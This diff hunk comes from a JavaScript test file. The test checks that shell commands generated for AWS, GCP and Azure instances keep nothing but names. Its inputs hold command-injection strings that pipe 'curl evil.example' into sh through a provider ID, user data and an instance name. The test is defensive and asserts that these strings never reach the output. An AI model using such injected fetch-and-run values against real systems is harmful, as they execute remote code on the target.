@@ -227,8 +227,9 @@ test('its image is never the cause where another machine has joined with it, and
 test.each(['AWS', 'GCP', 'Azure'])('what is copied into a shell holds nothing but names, on %s', (platform) => {
   const providerId = 'x:///p/z-1a/i-1;curl${IFS}evil.example|sh'
   const said = { instance: 'running', userData: 'worker-user-data; curl evil.example|sh', reason: null, message: null }
-  const all = commands({ platform, providerId, wanted: true, said }).join('\n')
-  expect(all).not.toContain('evil')
+  const name = 'w; curl evil.example|sh #'
+  const all = [commands({ platform, providerId, wanted: true, said }), commands({ name, wanted: true })].flat()
+  expect(all.join('\n')).not.toContain('evil')
   // Nor what would be read as an option.
   expect(commands({ platform, providerId: 'x:///p/z-1a/--help', wanted: true }).join()).not.toContain(' --help')
 })
